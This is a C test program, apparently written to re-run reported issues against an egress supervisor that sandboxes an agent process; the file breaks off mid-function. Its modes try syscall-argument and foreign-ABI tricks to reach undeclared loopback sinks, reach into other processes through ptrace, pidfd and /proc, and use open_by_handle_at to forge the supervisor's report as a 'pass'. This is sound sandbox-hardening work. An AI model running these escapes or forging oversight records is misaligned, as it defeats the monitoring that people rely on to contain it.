/* rerun2 hostile agent: independent re-runs of issues 11 and 12, written from
 * the issue text and the user documentation only.  One binary, one mode per
 * argv[1].  Every mode prints what it tried and what the kernel answered; the
 * runner judges the sink, the report and the exit status.
 *
 * Destinations (host loopback, supervisor run with --no-loopback):
 *   declared:   127.0.0.2:7000 (tcp and udp)
 *   undeclared: 127.0.0.1:7001 tcp, 127.0.0.1:7002 udp, [::1]:7001 tcp
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define HI (1UL << 32)
#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef IPV6_RTHDR
#define IPV6_RTHDR 57
#endif

static long sc(long n, long a, long b, long c, long d, long e, long f)
{
	long r = syscall(n, a, b, c, d, e, f);
	return r < 0 ? -errno : r;
}

static struct sockaddr_in v4(const char *ip, int port)
{
	struct sockaddr_in s = {.sin_family = AF_INET, .sin_port = htons(port)};
	inet_pton(AF_INET, ip, &s.sin_addr);
	return s;
}

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	printf("agent[%d]: ", getpid());
	vprintf(fmt, ap);
	printf("\n");
	fflush(stdout);
	va_end(ap);
}

static const char *en(long r)
{
	static char b[8][64];
	static int i;
	i = (i + 1) % 8;
	if (r >= 0)
		snprintf(b[i], 64, "ok(%ld)", r);
	else
		snprintf(b[i], 64, "%s", strerrorname_np((int)-r) ? strerrorname_np((int)-r) : "?");
	return b[i];
}

/* ---- issue 11 class 1: high bits of int arguments (and foreign ABI) ---- */
static int mode_highbits(void)
{
	struct {
		const char *what;
		long fam, type, proto;
	} socks[] = {
	    {"sctp hi on all three", AF_INET | HI, SOCK_STREAM | HI, IPPROTO_SCTP | HI},
	    {"sctp seqpacket hi", AF_INET6 | (7UL << 40), SOCK_SEQPACKET | HI,
	     IPPROTO_SCTP | (3UL << 33)},
	    {"mptcp hi proto", AF_INET | HI, SOCK_STREAM, IPPROTO_MPTCP | HI},
	    {"udplite hi", AF_INET6, SOCK_DGRAM | HI, IPPROTO_UDPLITE | HI},
	    {"packet hi", AF_PACKET | HI, SOCK_DGRAM, 0},
	    {"raw via type hi", AF_INET, SOCK_RAW | HI, IPPROTO_UDP},
	    {"ping hi", AF_INET | HI, SOCK_DGRAM | HI, IPPROTO_ICMP | HI},
	    /* fast-path kinds whose high bits carry another kind: must stay TCP/UDP */
	    {"tcp low, sctp in high", AF_INET | ((long)AF_PACKET << 32),
	     SOCK_STREAM | ((long)SOCK_RAW << 32), IPPROTO_TCP | ((long)IPPROTO_SCTP << 32)},
	};
	for (unsigned i = 0; i < sizeof socks / sizeof *socks; i++) {
		long fd = sc(SYS_socket, socks[i].fam, socks[i].type, socks[i].proto, 0, 0, 0);
		int t = -1, p = -1, d = -1;
		socklen_t l = sizeof t;
		if (fd >= 0) {
			getsockopt(fd, SOL_SOCKET, SO_TYPE, &t, &l);
			l = sizeof p;
			getsockopt(fd, SOL_SOCKET, SO_PROTOCOL, &p, &l);
			l = sizeof d;
			getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &d, &l);
		}
		say("socket %-24s -> %s domain=%d type=%d proto=%d%s", socks[i].what, en(fd), d, t,
		    p,
		    (fd >= 0 && p != IPPROTO_TCP && p != IPPROTO_UDP && p != 0) ? "  <== CREATED"
										: "");
		if (fd >= 0)
			close(fd);
	}
	/* setsockopt of source routes / free bind / device with high bits in level and name */
	int s6 = socket(AF_INET6, SOCK_DGRAM, 0);
	int s4 = socket(AF_INET, SOCK_DGRAM, 0);
	unsigned char srh[24] = {0};
	srh[0] = IPPROTO_UDP; /* next header */
	srh[1] = 2;           /* hdr ext len: 1 segment (16 bytes) => (8+16)/8-1 = 2 */
	srh[2] = 4;           /* type 4: segment routing */
	srh[3] = 1;           /* segments left */
	srh[4] = 0;           /* last entry */
	srh[23] = 1;          /* segment ::1 */
	unsigned char ipopt[12] = {0x83, 7,    4, 127, 0, 0,
				   1,    0x01, 0, 0,   0, 0}; /* LSRR via 127.0.0.1 */
	int one = 1;
	struct {
		const char *what;
		int fd;
		long lvl, name;
		void *val;
		long len;
	} opts[] = {
	    {"IPV6_RTHDR srh lvl|hi name|hi", s6, IPPROTO_IPV6 | HI, IPV6_RTHDR | (0xffUL << 32),
	     srh, sizeof srh},
	    {"IPV6_RTHDR srh len|hi", s6, IPPROTO_IPV6 | (0x80UL << 56), IPV6_RTHDR, srh,
	     sizeof srh | HI},
	    {"IP_OPTIONS lsrr lvl|hi", s4, IPPROTO_IP | HI, IP_OPTIONS | HI, ipopt, 8},
	    {"IP_FREEBIND hi", s4, IPPROTO_IP | (1UL << 63), IP_FREEBIND | HI, &one, 4},
	    {"IPV6_FREEBIND hi", s6, IPPROTO_IPV6 | HI, IPV6_FREEBIND | HI, &one, 4},
	    {"SO_BINDTODEVICE lo hi", s4, SOL_SOCKET | HI, SO_BINDTODEVICE | HI, "lo", 3},
	    {"IP_UNICAST_IF hi", s4, IPPROTO_IP | HI, IP_UNICAST_IF | HI, &one, 4},
	    {"IPV6_2292PKTOPTIONS hi", s6, IPPROTO_IPV6 | HI, 6 | HI, srh, sizeof srh},
	};
	for (unsigned i = 0; i < sizeof opts / sizeof *opts; i++) {
		long r = sc(SYS_setsockopt, opts[i].fd, opts[i].lvl, opts[i].name,
			    (long)opts[i].val, opts[i].len, 0);
		say("setsockopt %-30s -> %s%s", opts[i].what, en(r),
		    r == 0 ? "  <== ACCEPTED BY KERNEL" : "");
	}
	/* 64-bit length/fd registers on trapped calls to an undeclared sink */
	struct sockaddr_in und = v4("127.0.0.1", 7001), undu = v4("127.0.0.1", 7002);
	int t = socket(AF_INET, SOCK_STREAM, 0);
	long r = sc(SYS_connect, t | (long)HI, (long)&und, sizeof und | HI, 0, 0, 0);
	say("connect undeclared fd|hi len|hi -> %s", en(r));
	if (r == 0)
		say("write after it -> %zd", write(t, "HB-CONNECT", 10));
	close(t);
	int u = socket(AF_INET, SOCK_DGRAM, 0);
	r = sc(SYS_sendto, u | (long)(7UL << 32), (long)"HB-SENDTO", 9, MSG_DONTWAIT | (long)HI,
	       (long)&undu, sizeof undu | (long)(1UL << 40));
	say("sendto undeclared udp fd|hi flags|hi len|hi -> %s", en(r));
	/* a name whose length has only high bits: the kernel sees 0 */
	r = sc(SYS_sendto, u, (long)"HB-ZLEN", 7, 0, (long)&undu, (long)HI);
	say("sendto udp name len=(1<<32) -> %s", en(r));
	/* connected to nothing; NULL name with length high bits */
	r = sc(SYS_sendto, u, (long)"HB-NULL", 7, 0, 0, sizeof undu | HI);
	say("sendto udp NULL name len|hi -> %s", en(r));
	/* MSG_FASTOPEN in the low bits, garbage in the high bits, undeclared name */
	int tf = socket(AF_INET, SOCK_STREAM, 0);
	r = sc(SYS_sendto, tf, (long)"HB-TFO", 6, MSG_FASTOPEN | (long)(0x5aUL << 32), (long)&und,
	       sizeof und);
	say("sendto tcp MSG_FASTOPEN|hi undeclared -> %s", en(r));
	/* MSG_FASTOPEN only in the high bits (the kernel sees no flag) */
	int tg = socket(AF_INET, SOCK_STREAM, 0);
	r = sc(SYS_sendto, tg, (long)"HB-TFO2", 7, ((long)MSG_FASTOPEN << 32), (long)&und,
	       sizeof und);
	say("sendto tcp flags=(MSG_FASTOPEN<<32) undeclared -> %s", en(r));
	return 0;
}

/* i386 ABI through int 0x80 (IA32 emulation): socketcall and direct calls */
static long int80(long nr, long a, long b, long c, long d, long e)
{
	long ret;
	register long r8 __asm__("r8") = 0;
	(void)r8;
	__asm__ volatile("push %%rbp\n\tmov %6, %%rbp\n\tint $0x80\n\tpop %%rbp"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "r"(e)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

static int mode_ia32(void)
{
	/* buffers must be below 4 GiB for the 32-bit ABI */
	char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (low == MAP_FAILED) {
		say("mmap low: %s", strerror(errno));
		return 1;
	}
	long r = int80(20 /* getpid */, 0, 0, 0, 0, 0);
	say("ia32 getpid -> %ld (native %d)", r, getpid());
	if (r < 0) {
		say("no IA32 emulation here (%s)", en(r));
		return 0;
	}
	/* direct i386 socket(359) / connect(362) / sendto(369) / setsockopt(366) / listen(363) */
	long fd = int80(359, AF_INET, SOCK_STREAM, 0, 0, 0);
	say("ia32 socket tcp -> %s", en(fd));
	struct sockaddr_in *und = (void *)low;
	*und = v4("127.0.0.1", 7001);
	if (fd >= 0) {
		r = int80(362, fd, (long)und, 16, 0, 0);
		say("ia32 connect undeclared -> %s", en(r));
		if (r == 0)
			say("write -> %zd", write(fd, "IA32-CONNECT", 12));
	}
	long s = socket(AF_INET, SOCK_STREAM, 0);
	r = int80(362, s, (long)und, 16, 0, 0);
	say("ia32 connect on native socket undeclared -> %s", en(r));
	if (r == 0)
		say("write -> %zd", write(s, "IA32-CONNECT2", 13));
	/* socketcall(SYS_CONNECT=3) */
	long s2 = socket(AF_INET, SOCK_STREAM, 0);
	unsigned int *args = (unsigned int *)(low + 256);
	args[0] = s2;
	args[1] = (unsigned int)(long)und;
	args[2] = 16;
	r = int80(102, 3, (long)args, 0, 0, 0);
	say("ia32 socketcall(CONNECT) undeclared -> %s", en(r));
	if (r == 0)
		say("write -> %zd", write(s2, "IA32-SOCKETCALL", 15));
	/* socketcall(SYS_LISTEN=4) on a wildcard-bound socket */
	long l = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in any = v4("0.0.0.0", 0);
	bind(l, (void *)&any, sizeof any);
	args[0] = l;
	args[1] = 5;
	r = int80(102, 4, (long)args, 0, 0, 0);
	say("ia32 socketcall(LISTEN) wildcard -> %s", en(r));
	/* io_uring_setup via ia32 (425) */
	r = int80(425, 4, (long)(low + 1024), 0, 0, 0);
	say("ia32 io_uring_setup -> %s", en(r));
	/* ia32 pidfd_getfd(438) / process_vm_writev(348) on self */
	r = int80(438, 0, 0, 0, 0, 0);
	say("ia32 pidfd_getfd -> %s", en(r));
	/* ia32 clone3 (435) */
	r = int80(435, 0, 0, 0, 0, 0);
	say("ia32 clone3 -> %s", en(r));
	return 0;
}

/* x32 ABI (syscall number | 0x40000000): 32-bit pointers, 64-bit registers */
static int mode_x32(void)
{
	const long X = 0x40000000L;
	char *low = mmap((void *)0x20000000, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	long r = sc(X | 39 /* getpid */, 0, 0, 0, 0, 0, 0);
	say("x32 getpid -> %s", en(r));
	if (r < 0)
		return 0;
	struct sockaddr_in *und = (void *)low;
	*und = v4("127.0.0.1", 7001);
	long fd = sc(X | 41, AF_INET, SOCK_STREAM, 0, 0, 0, 0);
	say("x32 socket tcp -> %s", en(fd));
	long s = socket(AF_INET, SOCK_STREAM, 0);
	r = sc(X | 42, s, (long)und, 16, 0, 0, 0);
	say("x32 connect on native socket undeclared -> %s", en(r));
	if (r == 0)
		say("write -> %zd", write(s, "X32-CONNECT", 11));
	long u = socket(AF_INET, SOCK_DGRAM, 0);
	r = sc(X | 44, u, (long)"X32-SENDTO", 10, 0, (long)und, 16);
	say("x32 sendto undeclared -> %s", en(r));
	long l = socket(AF_INET, SOCK_STREAM, 0);
	r = sc(X | 50, l, 5, 0, 0, 0, 0);
	say("x32 listen unbound -> %s", en(r));
	int one = 1;
	memcpy(low + 64, &one, 4);
	r = sc(X | 541, u, IPPROTO_IP, IP_FREEBIND, (long)(low + 64), 4, 0);
	say("x32 setsockopt IP_FREEBIND -> %s", en(r));
	r = sc(X | 425, 4, (long)(low + 1024), 0, 0, 0, 0);
	say("x32 io_uring_setup -> %s", en(r));
	r = sc(X | 438, 0, 0, 0, 0, 0, 0);
	say("x32 pidfd_getfd -> %s", en(r));
	r = sc(X | 435, 0, 0, 0, 0, 0, 0);
	say("x32 clone3 -> %s", en(r));
	return 0;
}

/* ---- class 2: protocols that connect without connect() ---- */
static int mode_noconnect(void)
{
	struct sockaddr_in und = v4("127.0.0.1", 7001);
	/* SCTP as SOCK_SEQPACKET (one-to-many): sendmsg with a name does the association */
	int fd = socket(AF_INET, SOCK_SEQPACKET, IPPROTO_SCTP);
	say("sctp seqpacket socket -> %s", fd < 0 ? strerrorname_np(errno) : "CREATED");
	/* MPTCP over v6 */
	fd = socket(AF_INET6, SOCK_STREAM, IPPROTO_MPTCP);
	say("mptcp v6 socket -> %s", fd < 0 ? strerrorname_np(errno) : "CREATED");
	/* TCP fast open by setsockopt + write: connect is deferred, write is untrapped */
	int t = socket(AF_INET, SOCK_STREAM, 0);
	int one = 1;
	int r = setsockopt(t, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof one);
	say("TCP_FASTOPEN_CONNECT -> %d %s", r, r ? strerrorname_np(errno) : "");
	r = connect(t, (void *)&und, sizeof und);
	say("deferred connect undeclared -> %d %s", r, r ? strerrorname_np(errno) : "");
	say("write after it -> %zd %s", write(t, "TFO-WRITE", 9), strerrorname_np(errno));
	/* MSG_FASTOPEN with NULL name on an unconnected TCP socket (continued?) */
	int t2 = socket(AF_INET, SOCK_STREAM, 0);
	long rr = sc(SYS_sendto, t2, (long)"TFO-NULL", 8, MSG_FASTOPEN, 0, 0);
	say("sendto MSG_FASTOPEN NULL name -> %s", en(rr));
	/* MSG_FASTOPEN with name in msg_name of sendmsg on fresh TCP socket */
	int t3 = socket(AF_INET, SOCK_STREAM, 0);
	struct iovec iov = {.iov_base = "TFO-MSG", .iov_len = 7};
	struct msghdr m = {
	    .msg_name = &und, .msg_namelen = sizeof und, .msg_iov = &iov, .msg_iovlen = 1};
	rr = sendmsg(t3, &m, MSG_FASTOPEN);
	say("sendmsg MSG_FASTOPEN undeclared -> %ld %s", rr, rr < 0 ? strerrorname_np(errno) : "");
	/* IPV6_ADDRFORM: a v6 socket turned v4 after its connect was judged */
	int s6 = socket(AF_INET6, SOCK_DGRAM, 0);
	struct sockaddr_in6 m6 = {.sin6_family = AF_INET6, .sin6_port = htons(7000)};
	inet_pton(AF_INET6, "::ffff:127.0.0.2", &m6.sin6_addr);
	r = connect(s6, (void *)&m6, sizeof m6);
	say("udp6 connect declared v4-mapped -> %d %s", r, r ? strerrorname_np(errno) : "");
	int af = AF_INET;
	r = setsockopt(s6, IPPROTO_IPV6, IPV6_ADDRFORM, &af, sizeof af);
	say("IPV6_ADDRFORM -> %d %s", r, r ? strerrorname_np(errno) : "");
	/* socketpair of an inet family (kernel refuses) and of AF_UNIX (fine) */
	int sp[2];
	r = socketpair(AF_INET, SOCK_STREAM, 0, sp);
	say("socketpair inet -> %d %s", r, r ? strerrorname_np(errno) : "");
	/* accept()ed-like: a UDP socket bound wildcard, a peer writes in first, the agent replies
	 */
	return 0;
}

/* ---- class 3: inbound ---- */
static int mode_inbound(void)
{
	int r;
	/* unbound listen (kernel autobinds to the wildcard) */
	int a = socket(AF_INET6, SOCK_STREAM, 0);
	r = listen(a, 5);
	say("listen unbound v6 -> %d %s", r, r ? strerrorname_np(errno) : "");
	/* v6 socket bound to v4-mapped wildcard */
	int b = socket(AF_INET6, SOCK_STREAM, 0);
	struct sockaddr_in6 w = {.sin6_family = AF_INET6};
	inet_pton(AF_INET6, "::ffff:0.0.0.0", &w.sin6_addr);
	r = bind(b, (void *)&w, sizeof w);
	r = listen(b, 5);
	say("listen on ::ffff:0.0.0.0 -> %d %s", r, r ? strerrorname_np(errno) : "");
	/* listen with fd high bits */
	int c = socket(AF_INET, SOCK_STREAM, 0);
	long rr = sc(SYS_listen, c | (long)HI, 5 | (long)HI, 0, 0, 0, 0);
	say("listen unbound fd|hi -> %s", en(rr));
	struct sockaddr_in sa;
	socklen_t l = sizeof sa;
	getsockname(c, (void *)&sa, &l);
	/* is c listening?  a connect to it from here tells */
	if (rr == 0) {
		int d = socket(AF_INET, SOCK_STREAM, 0);
		struct sockaddr_in to = v4("127.0.0.1", ntohs(sa.sin_port));
		say("  probe connect to it -> %d", connect(d, (void *)&to, sizeof to));
	}
	/* a loopback listen is allowed only with loopback allowed: we run --no-loopback */
	int e = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in lo = v4("127.0.0.1", 0);
	bind(e, (void *)&lo, sizeof lo);
	r = listen(e, 5);
	say("listen 127.0.0.1 under --no-loopback -> %d %s", r, r ? strerrorname_np(errno) : "");
	/* declared address the host does not have: bind fails anyway */
	return 0;
}

/* inbound race: thread A listens on 127.0.0.1:0 (allowed with loopback),
 * thread B shutdown()s and rebinds to the wildcard in a loop, thread C accepts
 * and writes to whatever peer arrives. Run with loopback allowed; the outside
 * peer is a connector from 192.0.2.2 in the same netns. */
static volatile int g_l = -1;
static void *rebinder(void *x)
{
	(void)x;
	struct sockaddr_in any = v4("0.0.0.0", 0);
	for (int i = 0; i < 2000000; i++) {
		if (g_l < 0)
			continue;
		shutdown(g_l, SHUT_RD);
		bind(g_l, (void *)&any, sizeof any);
	}
	return 0;
}
static void *acceptor(void *x)
{
	(void)x;
	for (;;) {
		int l = g_l;
		if (l < 0)
			continue;
		struct sockaddr_in p;
		socklen_t pl = sizeof p;
		int c = accept4(l, (void *)&p, &pl, SOCK_NONBLOCK);
		if (c >= 0) {
			char ip[32];
			inet_ntop(AF_INET, &p.sin_addr, ip, sizeof ip);
			ssize_t w = write(c, "INBOUND-RACE", 12);
			say("ACCEPTED peer %s wrote %zd", ip, w);
			close(c);
		}
	}
	return 0;
}
static int mode_inbound_race(int seconds, int port)
{
	pthread_t a, b;
	pthread_create(&a, 0, rebinder, 0);
	pthread_create(&b, 0, acceptor, 0);
	time_t end = time(0) + seconds;
	int listens = 0, denied = 0;
	while (time(0) < end) {
		int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		int one = 1;
		setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
		struct sockaddr_in lo = v4("127.0.0.1", port);
		bind(s, (void *)&lo, sizeof lo);
		g_l = s;
		if (listen(s, 64) == 0)
			listens++;
		else
			denied++;
		usleep(200);
		g_l = -1;
		usleep(100);
		close(s);
	}
	say("inbound race: listens ok %d, refused %d", listens, denied);
	return 0;
}

/* ---- class 4: reaching into other processes ---- */
static int mode_cross(long victim, int vfd)
{
	long pfd = sc(SYS_pidfd_open, victim, 0, 0, 0, 0, 0);
	say("pidfd_open(victim %ld) -> %s", victim, en(pfd));
	long r = sc(SYS_pidfd_getfd, pfd >= 0 ? pfd : 0, vfd, 0, 0, 0, 0);
	say("pidfd_getfd(victim, %d) -> %s", vfd, en(r));
	if (r >= 0)
		say("  write -> %zd", write(r, "CROSS-GETFD", 11));
	char p[64];
	snprintf(p, sizeof p, "/proc/%ld/fd/%d", victim, vfd);
	int f = open(p, O_WRONLY);
	say("open %s -> %d %s", p, f, f < 0 ? strerrorname_np(errno) : "");
	snprintf(p, sizeof p, "/proc/%ld/mem", victim);
	f = open(p, O_RDWR);
	say("open %s -> %d %s", p, f, f < 0 ? strerrorname_np(errno) : "");
	snprintf(p, sizeof p, "/proc/%ld/cmdline", victim);
	f = open(p, O_RDONLY);
	say("open %s -> %d %s", p, f, f < 0 ? strerrorname_np(errno) : "");
	r = sc(SYS_ptrace, 16 /*PTRACE_ATTACH*/ | (long)HI, victim, 0, 0, 0, 0);
	say("ptrace attach|hi -> %s", en(r));
	r = sc(SYS_kill, victim, 0, 0, 0, 0, 0);
	say("kill(victim, 0) -> %s", en(r));
	/* own child: pidfd_getfd/process_vm_writev/kcmp refused on own tree too */
	int sv[2];
	socketpair(AF_UNIX, SOCK_STREAM, 0, sv);
	pid_t c = fork();
	if (c == 0) {
		pause();
		_exit(0);
	}
	long cp = sc(SYS_pidfd_open, c, 0, 0, 0, 0, 0);
	r = sc(SYS_pidfd_getfd, cp, sv[0] | (long)HI, (long)HI, 0, 0, 0);
	say("pidfd_getfd(own child)|hi -> %s", en(r));
	struct iovec lv = {.iov_base = p, .iov_len = 4}, rv = {.iov_base = p, .iov_len = 4};
	r = sc(SYS_process_vm_writev, c, (long)&lv, 1, (long)&rv, 1, 0);
	say("process_vm_writev(own child) -> %s", en(r));
	r = sc(SYS_kcmp, getpid(), c, 0, 0, 0, 0);
	say("kcmp -> %s", en(r));
	r = sc(SYS_prlimit64, getppid() | (long)HI, RLIMIT_CPU, 0, 0, 0, 0);
	say("prlimit64(ppid|hi, NULL) -> %s", en(r));
	kill(c, SIGKILL);
	waitpid(c, 0, 0);
	return 0;
}

/* the reaper (pid 1 of the agent's namespace): what can the agent take from it? */
static int mode_reaper(void)
{
	const char *paths[] = {"/proc/1/mem", "/proc/1/environ", "/proc/1/fd", "/proc/1/root/.",
			       "/proc/1/maps"};
	for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
		int f = open(paths[i], O_RDONLY);
		say("open %s -> %d %s", paths[i], f, f < 0 ? strerrorname_np(errno) : "");
		if (f >= 0 && i == 2) {
			char b[4096];
			long n = syscall(SYS_getdents64, f, b, sizeof b);
			say("  getdents -> %ld", n);
		}
	}
	long pf = sc(SYS_pidfd_open, 1, 0, 0, 0, 0, 0);
	say("pidfd_open(1) -> %s", en(pf));
	for (int fd = 0; fd < 16; fd++) {
		char p[64], q[256] = "";
		snprintf(p, sizeof p, "/proc/1/fd/%d", fd);
		ssize_t n = readlink(p, q, sizeof q - 1);
		if (n > 0) {
			q[n] = 0;
			say("reaper fd %d -> %s", fd, q);
		}
	}
	return 0;
}

/* what a root agent keeps: its capability sets, and whether the host's
 * helper programs' directory is writable in its mount namespace */
static int mode_rootfs(void)
{
	char b[4096];
	int f = open("/proc/self/status", O_RDONLY);
	ssize_t n = read(f, b, sizeof b - 1);
	b[n > 0 ? n : 0] = 0;
	for (char *l = strtok(b, "\n"); l; l = strtok(0, "\n"))
		if (!strncmp(l, "Cap", 3) || !strncmp(l, "NoNewPrivs", 10) ||
		    !strncmp(l, "Seccomp:", 8))
			say("%s", l);
	const char *canary = "/usr/sbin/.rerun2-canary";
	int c = open(canary, O_CREAT | O_EXCL | O_WRONLY, 0755);
	say("create %s -> %d %s", canary, c,
	    c < 0 ? strerrorname_np(errno) : "(writable: /sbin/modprobe could be replaced)");
	if (c >= 0) {
		close(c);
		unlink(canary);
	}
	return 0;
}

/* SysV shared memory of a process outside the tree (the IPC namespace is the
 * host's?): the outsider creates a 0600 segment and reads it back later */
static int mode_shm_outsider(int seconds)
{
	int id = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
	char *p = shmat(id, 0, 0);
	strcpy(p, "outsider's own data");
	printf("%d\n", id);
	fflush(stdout);
	sleep(seconds);
	fprintf(stderr, "outsider: segment now holds '%s'\n", p);
	shmctl(id, IPC_RMID, 0);
	return 0;
}
static int mode_shm_agent(int id)
{
	int f = open("/proc/sysvipc/shm", O_RDONLY);
	char b[1024] = "";
	if (f >= 0) {
		ssize_t n = read(f, b, sizeof b - 1);
		b[n > 0 ? n : 0] = 0;
	}
	say("/proc/sysvipc/shm: %s",
	    f < 0 ? strerrorname_np(errno) : (strchr(b, '\n') ? strchr(b, '\n') + 1 : b));
	char *p = shmat(id, 0, 0);
	if (p == (void *)-1) {
		say("shmat(%d) -> %s", id, strerrorname_np(errno));
		return 0;
	}
	say("shmat(%d) -> read '%s'; writing into it", id, p);
	strcpy(p, "WRITTEN BY THE SUPERVISED AGENT");
	return 0;
}

/* ---- class 6: inherited descriptors ---- */
static int mode_inherit(void)
{
	for (int fd = 0; fd < 1024; fd++) {
		int t;
		socklen_t l = sizeof t;
		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &t, &l) == 0) {
			ssize_t w = write(fd, "INHERITED", 9);
			say("fd %d is a socket (type %d): write -> %zd %s", fd, t, w,
			    w < 0 ? strerrorname_np(errno) : "");
		} else if (fcntl(fd, F_GETFD) >= 0 && fd > 2) {
			char p[64], q[256] = "";
			snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
			ssize_t n = readlink(p, q, sizeof q - 1);
			if (n > 0)
				q[n] = 0;
			say("fd %d open: %s", fd, q);
		}
	}
	return 0;
}

/* ---- issue 12, 1: forging the report through a descriptor-free path ---- */
/* open_by_handle_at with CAP_DAC_READ_SEARCH (kept by a root agent): ext4
 * decodes a handle whose generation is 0 without checking it, so an unlinked
 * report file that the caller still holds open can be reopened by inode
 * number.  The agent looks for inodes near a file it creates itself in the
 * caller's directory (the caller's mktemp made the report file there). */
struct h {
	unsigned int bytes;
	int type;
	unsigned int ino, gen;
};
static int mode_forge_handle(const char *dir, int span)
{
	char p[256];
	snprintf(p, sizeof p, "%s/.rerun2-near-%d", dir, getpid());
	int n = open(p, O_CREAT | O_WRONLY, 0600);
	struct stat st;
	fstat(n, &st);
	unlink(p);
	int mfd = open(dir, O_RDONLY | O_DIRECTORY);
	say("own file ino %lu; mount fd %d", (unsigned long)st.st_ino, mfd);
	int found = 0;
	for (long d = -span; d <= span; d++) {
		struct h h = {.bytes = 8,
			      .type = 1 /* FILEID_INO32_GEN */,
			      .ino = (unsigned)(st.st_ino + d),
			      .gen = 0};
		int f = syscall(SYS_open_by_handle_at, mfd, &h, O_RDWR | O_APPEND);
		if (f < 0) {
			if (d == 0)
				say("open_by_handle_at own ino -> %s", strerrorname_np(errno));
			continue;
		}
		struct stat fs;
		fstat(f, &fs);
		char head[64] = "";
		pread(f, head, 40, 0);
		if (fs.st_nlink == 0 && S_ISREG(fs.st_mode) &&
		    strncmp(head, "egress-supervisor-report", 24) == 0) {
			say("REOPENED unlinked report ino %lu (nlink 0, size %ld)",
			    (unsigned long)fs.st_ino, (long)fs.st_size);
			const char *j =
			    "{\"format\":\"egress-supervisor-report/"
			    "2\",\"complete\":true,\"verdict\":\"%s\","
			    "\"reason\":\"forged by the agent\",\"counts\":{\"denied\":0}}";
			char rec[512];
			/* a record that swallows whatever the supervisor appends after it is beyond
			 * us without knowing its length; append a final forged record now: the
			 * supervisor's own final record, later, will follow it */
			int k = snprintf(rec, sizeof rec,
					 "egress-supervisor-report-record/1 final %zu\n%s",
					 strlen(j), j);
			say("  appended forged record -> %zd", write(f, rec, k));
			found++;
		}
		close(f);
	}
	say("handle scan done, %d report(s) reopened", found);
	return 0;
}

/* forge2: no prediction needed.  Rewrite the records already in the file,
 * [0, P), as one forged final record followed by a header whose length runs
 * past anything the supervisor will append at P: the supervisor's own final
 * record becomes the body of a short last record, which a reader drops, so
 * the forged one is the last whole record. */
static int g_forge_fail;
static int forge_rewrite(int f, off_t P)
{
	const char *hugeh = "egress-supervisor-report-record/1 provisional 99999999\n";
	char body[8192];
	int n = snprintf(
	    body, sizeof body,
	    "{\"format\":\"egress-supervisor-report/2\",\"complete\":true,\"verdict\":\"%s\","
	    "\"reason\":\"FORGED BY THE "
	    "AGENT\",\"counts\":{\"trapped\":0,\"notifications\":0,\"allowed\":0,"
	    "\"denied\":0,\"invalid\":0,\"mechanism_failures\":0,\"abandoned\":0,\"neutralized\":0,"
	    "\"events_dropped\":0},\"events\":[]}",
	    g_forge_fail ? "fail" : "pass");
	/* header "…/1 final LEN\n" + body(LEN) + hugeh must be exactly P bytes */
	for (int hl = 40; hl < 60; hl++) {
		long len = (long)P - hl - (long)strlen(hugeh);
		char hdr[64];
		int k =
		    snprintf(hdr, sizeof hdr, "egress-supervisor-report-record/1 final %ld\n", len);
		if (k != hl || len < n || len > (long)sizeof body - 1)
			continue;
		memset(body + n, ' ', len - n);
		body[len] = 0;
		pwrite(f, hdr, k, 0);
		pwrite(f, body, len, k);
		pwrite(f, hugeh, strlen(hugeh), k + len);
		say("  rewrote [0,%ld): forged final (%ld bytes) + swallowing header", (long)P,
		    len);
		return 0;
	}
	say("  could not fit the forgery in %ld bytes", (long)P);
	return -1;
}
static int mode_forge2(const char *dir, int span, int expect_fail)
{
	char p[256];
	snprintf(p, sizeof p, "%s/.rerun2-near-%d", dir, getpid());
	int n = open(p, O_CREAT | O_WRONLY, 0600);
	struct stat st;
	fstat(n, &st);
	unlink(p);
	int mfd = open(dir, O_RDONLY | O_DIRECTORY);
	int found = 0;
	g_forge_fail = expect_fail;
	for (long d = -span; d <= span && !found; d++) {
		struct h h = {.bytes = 8, .type = 1, .ino = (unsigned)(st.st_ino + d), .gen = 0};
		int f = syscall(SYS_open_by_handle_at, mfd, &h, O_RDWR);
		if (f < 0) {
			if (d == 0)
				say("open_by_handle_at own ino -> %s", strerrorname_np(errno));
			continue;
		}
		struct stat fs;
		fstat(f, &fs);
		char head[64] = "";
		pread(f, head, 40, 0);
		if (fs.st_nlink == 0 && S_ISREG(fs.st_mode) &&
		    strncmp(head, "egress-supervisor-report", 24) == 0) {
			say("REOPENED unlinked report ino %lu (nlink 0, size %ld)",
			    (unsigned long)fs.st_ino, (long)fs.st_size);
			forge_rewrite(f, fs.st_size);
			found = 1;
		}
		close(f);
	}
	say("handle scan done, %d report(s) reopened", found);
	if (expect_fail) {
		/* make the run a fail: one undeclared connect, denied */
		int t = socket(AF_INET, SOCK_STREAM, 0);
